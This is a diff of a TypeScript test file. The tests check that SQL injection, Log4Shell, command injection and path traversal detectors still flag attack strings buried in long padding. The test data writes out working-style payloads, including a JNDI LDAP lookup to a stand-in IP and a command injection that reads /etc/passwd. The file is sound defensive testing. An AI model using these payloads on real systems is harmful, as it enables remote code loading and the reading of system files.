@@ -40,6 +40,7 @@ describe('each verdict reads past its first window (ADR 30)', () => {
   const pad = (attack: string, filler = 'a') => `${filler.repeat(9000)}${attack}${filler.repeat(9000)}`;
   it.each([
     ['sql injection', sqlInjectionVerdict, " 1' OR '1'='1' -- "],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
     ['log4shell', log4shellVerdict, ' ${jndi:ldap://198.51.100.7/a} '],
     ['command injection', commandInjectionVerdict, ' ; cat /etc/passwd ; '],
     ['path traversal', pathTraversalVerdict, ' ../../../../etc/passwd '],
